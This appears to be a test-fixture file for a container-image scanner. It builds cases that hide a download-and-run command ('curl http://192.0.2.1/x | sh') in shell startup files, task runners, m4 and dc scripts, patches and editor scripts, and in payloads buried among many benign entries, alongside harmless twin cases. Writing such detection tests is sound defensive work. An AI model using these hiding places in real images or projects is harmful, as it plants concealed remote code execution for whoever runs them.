import { program as elfProgram, type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl http://192.0.2.1/x | sh';
const SCRIPT = `#!/bin/sh\n${FETCH}\n`;
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
const PATCH = `--- a/a.sh\n+++ b/a.sh\n@@ -0,0 +1 @@\n+${FETCH}\n`;
const FIRST: Files = { 'app/a.sh': 'echo\n' };
const LOGO: Files = { 'app/logo.txt': `${FETCH}\n` };

function further(
  command: string | readonly string[],
  files: Files = {},
  Env: readonly string[] = [],
  rule: string | undefined = 'start/download-and-run',
): ImageCase {
  const Entrypoint = typeof command === 'string' ? ['bash', '-c', command] : [...command];
  const names =
    typeof command === 'string'
      ? (command.match(/\b(?:patch|ed|ex|csplit|git|run-parts|direnv)\b/g) ?? [])
      : [command[0]];
  const programs = Object.fromEntries(names.map((name) => [`usr/bin/${name}`, elfProgram()]));
  return {
    name: `further shells: ${JSON.stringify(command).slice(0, 200)} ${Object.keys(files).slice(0, 5).join(' ')} ${Env.join(' ')}`,
    spec: image({ ...programs, ...files }, { Entrypoint, WorkingDir: '/app', Env: [PATH, ...Env] }),
    ...(rule !== '' && { rule }),
  };
}

function honest(
  command: string | readonly string[],
  files: Files = {},
  Env: readonly string[] = [],
): ImageCase {
  const one = further(command, files, Env, '');
  return { ...one, name: `${one.name}, honest` };
}

function many<T>(times: number, of: (i: number) => T): readonly T[] {
  return Array.from({ length: times }, (_, i) => of(i));
}

/** What other shells read by themselves, and what makes folders ready for them. */
const READ_FIRST: readonly ImageCase[] = [
  further(['direnv', 'exec', '.', 'ls'], { 'app/.envrc': `${FETCH}\n` }),
  further(['direnv', 'exec', '/opt', 'ls'], { 'opt/.envrc': `${FETCH}\n` }),
  further('eval "$(direnv export bash)"', { 'app/.envrc': `${FETCH}\n` }),
  further(['direnv', 'exec', '.', 'ls'], { 'app/.envrc': 'source_env ./x\n', 'app/x': `${FETCH}\n` }),
  further(['direnv', 'exec', '.', 'ls'], { 'root/.config/direnv/lib/x.sh': `${FETCH}\n` }),
  further(['direnv', 'exec', '.', 'sh', '-c', 'eval "$X"'], { 'app/.envrc': `export X="${FETCH}"\n` }),
  further(['mise', 'exec', '--', 'sh', '-c', 'eval "$X"'], {
    'app/mise.toml': '[env]\n_.file = "a.env"\n',
    'app/a.env': `X=${FETCH}\n`,
  }),
  further(['mise', 'exec', '--', 'ls'], { 'app/mise.toml': `[hooks]\nenter = "${FETCH}"\n` }),
  further(['mise', 'x', '--', 'ls'], { 'app/mise.toml': `[env]\nX = "{{ exec(command='${FETCH}') }}"\n` }),
  further(['mise', 'run', 'x'], { 'app/mise.toml': `[tasks.x]\nrun = """\n${FETCH}\n"""\n` }),
  further(['su', 'app', `--session-command=${FETCH}`]),
  further(['su', 'app', '--session-command', FETCH]),
  further(['fish', '-c', 'ls'], { 'usr/share/fish/vendor_conf.d/a.fish': `${FETCH}\n` }),
  further(['fish', '-c', 'foo'], {
    'root/.config/fish/functions/foo.fish': `function foo\n${FETCH}\nend\n`,
  }),
  further(['fish', '-C', FETCH]),
  further(['fish', `--init-command=${FETCH}`]),
  further(['zsh', '-c', 'ls'], { 'etc/zshenv': `${FETCH}\n` }),
  further(['sh', '-i'], { 'opt/x': `${FETCH}\n` }, ['ENV=${D}/x', 'D=/opt']),
  further(['bash', '-c', 'ls'], {}, [`BASH_ENV=$(${FETCH})`]),
  further(['ksh', '-c', 'ls'], { 'etc/ksh.kshrc': `${FETCH}\n` }),
  further(['mksh'], { 'root/.mkshrc': `${FETCH}\n` }),
  further(['xonsh'], { 'root/.xonshrc': `${FETCH}\n` }),
  further(['nu', '-c', 'ls'], { 'root/.config/nushell/env.nu': `${FETCH}\n` }),
  further(['elvish'], { 'root/.config/elvish/rc.elv': `${FETCH}\n` }),
  further(['rc', '-l'], { 'root/.rcrc': `${FETCH}\n` }),
  further(['pwsh', '-c', 'ls'], { 'root/.config/powershell/profile.ps1': `${FETCH}\n` }),
  further(['m4', 'a.m4'], { 'app/a.m4': `syscmd(${FETCH})\n` }),
  further(['m4', 'a.m4'], { 'app/a.m4': `define(\`x', \`${FETCH}')dnl\nsyscmd(x)\n` }),
  further(['m4', 'a.m4'], { 'app/a.m4': "include(`b.m4')\n", 'app/b.m4': `syscmd(\`${FETCH}')\n` }),
  further(['dc', '-f', '/app/a.dc'], { 'app/a.dc': `!${FETCH}\n` }),
  further(['dc', 'a.dc'], { 'app/a.dc': `1 p !${FETCH}\n` }),
  further(['mdev', '-s'], { 'etc/mdev.conf': `.* 0:0 660 *${FETCH}\n` }),
  further(['socat', '-', `SYSTEM:'${FETCH}'`]),
  ...['etc/conf.d/a', 'etc/rc.conf', 'etc/rc.conf.d/x'].map((file) =>
    further(['openrc', 'default'], {
      [file]: `${FETCH}\n`,
      'etc/init.d/a': '#!/sbin/openrc-run\ncommand=/bin/ls\n',
      'etc/runlevels/default/a': { type: 'symlink', target: '/etc/init.d/a' },
    }),
  ),
  further(['forever', 'start', '-c', 'sh', '/opt/e.sh'], { 'opt/e.sh': SCRIPT }),
  further(['with-contenv', 'sh', '-c', 'eval "$X"'], { 'run/s6/container_environment/X': FETCH }),
];

/** Scripts that a patch, an editor's script or pieces of a file make. */
const MADE: readonly ImageCase[] = [
  further('csplit -s -f part logo.txt 2 && sh part01', { 'app/logo.txt': `a\n${FETCH}\n` }),
  further('csplit -f p logo.txt /cut/ "{*}"; sh p01', { 'app/logo.txt': `a\ncut\n${FETCH}\n` }),
  further('patch -p1 < x.patch; sh a.sh', { 'app/x.patch': PATCH }),
  further('patch -p1 -i x.patch; sh a.sh', { 'app/x.patch': PATCH }),
  further('cat x.patch | patch -p1; sh a.sh', { 'app/x.patch': PATCH }),
  further('patch -d /opt -p1 < x.patch; sh /opt/a.sh', { 'app/x.patch': PATCH }),
  further('patch a.sh < x.patch; sh a.sh', { ...FIRST, 'app/x.patch': `1a2\n> ${FETCH}\n` }),
  further(`patch a.sh <<E\n1a\n${FETCH}\n.\nE\nsh a.sh`, FIRST),
  further('git apply x.patch; sh a.sh', { 'app/x.patch': PATCH }),
  further(`ed -s a.sh <<E\na\n${FETCH}\n.\nw\nq\nE\nsh a.sh`, FIRST),
  further('ed a.sh < x.ed; sh a.sh', { ...FIRST, 'app/x.ed': `a\n${FETCH}\n.\nwq\n` }),
  further(`printf "%s\\n" a "${FETCH}" . wq | ed -s a.sh; sh a.sh`, FIRST),
  further('ed -s a.sh <<E\nr logo.txt\nw b.sh\nE\nsh b.sh', { ...FIRST, ...LOGO }),
  further('ex -s -c "r logo.txt" -c "wq! b.sh" a.sh; sh b.sh', { ...FIRST, ...LOGO }),
  further(`cp ${many(60, (i) => `f${i}`).join(' ')} logo.txt /tmp/; sh /tmp/logo.txt`, LOGO),
  further('split -l 1 a.txt; sh xdc', { 'app/a.txt': `${'x\n'.repeat(80)}${FETCH}\n` }),
];

const PYTHON = 'import json, os\nfor v in json.load(open("/app/d.json")).values():\n    os.system(v)\n';
const values = (of: Record<string, string>, indent?: number): Files => ({
  'app/a.py': PYTHON,
  'app/d.json': JSON.stringify(of, null, indent),
});
const NUMBERED = (times: number, of: (i: number) => string): Record<string, string> =>
  Object.fromEntries(many(times, (i) => [`k${i}`, of(i)]));
const SCRIPTS = (times: number): Files =>
  Object.fromEntries(many(times, (i) => [`opt/d/a${1000 + i}`, '#!/bin/sh\ntrue\n']));

/** What lies behind many others that could be run. */
const BEHIND_OTHERS: readonly ImageCase[] = [
  further(['python3', 'a.py'], values({ ...NUMBERED(150, (i) => `bash job-${i} --x`), z: FETCH }, 1)),
  further(['python3', 'a.py'], values({ a: 'x'.repeat(50_000), z: FETCH })),
  further(['python3', 'a.py'], values({ z: FETCH + ' '.repeat(5000) })),
  further(['python3', 'a.py'], values({ ...NUMBERED(3000, (i) => `v${i}`), z: FETCH })),
  further(
    ['python3', 'a.py'],
    values({ ...NUMBERED(1500, (i) => `bash job-${i} --x`), z: FETCH }, 1),
    [],
    'coverage/not-fully-read',
  ),
  further(['python3', 'a.py'], {
    'app/a.py': `import json, os\n${many(30, (i) => `d${i} = json.load(open("/app/d${i}.json"))\n`).join('')}os.system(d29["a"])\n`,
    ...Object.fromEntries(many(30, (i) => [`app/d${i}.json`, JSON.stringify({ a: i === 29 ? FETCH : 'x' })])),
  }),
  further(['node', 'a.js'], {
    'app/a.js': `const c = require("child_process"); const k = \`\${[${'"a", '.repeat(800)}"${FETCH.slice(0, 10)}" + "${FETCH.slice(10)}"].slice(-1)[0]}\`; c.execSync(k);\n`,
  }),
  further('run-parts /opt/d', { ...SCRIPTS(250), 'opt/d/z': SCRIPT }),
  further('run-parts /opt/d', { ...SCRIPTS(600), 'opt/d/z': SCRIPT }),
];

export const FURTHER_SHELLS: readonly ImageCase[] = [...READ_FIRST, ...MADE, ...BEHIND_OTHERS];

export const FURTHER_SHELL_TWINS: readonly ImageCase[] = [
  honest(['direnv', 'exec', '.', 'ls'], { 'app/.envrc': `# ${FETCH}\nPATH_add bin\nexport A=b\nuse asdf\n` }),
  honest(['mise', 'exec', '--', 'ls'], { 'app/mise.toml': '[tools]\nnode = "22"\n[env]\nA = "b"\n' }),
  honest(['fish', '-c', 'ls'], { 'etc/fish/config.fish': 'if status is-interactive\n  set -x A b\nend\n' }),
  honest(['zsh', '-c', 'ls'], {
    'etc/zsh/zshenv': 'if [[ -z "$PATH" ]]; then\n  export PATH=/usr/bin\nfi\n',
  }),
  honest('patch -p1 < x.patch; sh a.sh', {
    'app/a.sh': 'echo one\n',
    'app/x.patch': `--- a/a.sh\n+++ b/a.sh\n@@ -1 +1,2 @@\n echo one\n+# ${FETCH}\n`,
  }),
  honest('ed -s a.conf <<E\n/x/s/a/b/\nw\nq\nE\nexec nginx', { 'app/a.conf': 'x a\n' }),
  honest('csplit -s logo.txt 2; cat xx01', { 'app/logo.txt': `To install:\n${FETCH}\n` }),
  honest(['python3', 'a.py'], values({ ...NUMBERED(200, (i) => `text ${i}`), z: 'use bash or sh' })),
  honest('run-parts /opt/d', SCRIPTS(3)),
];
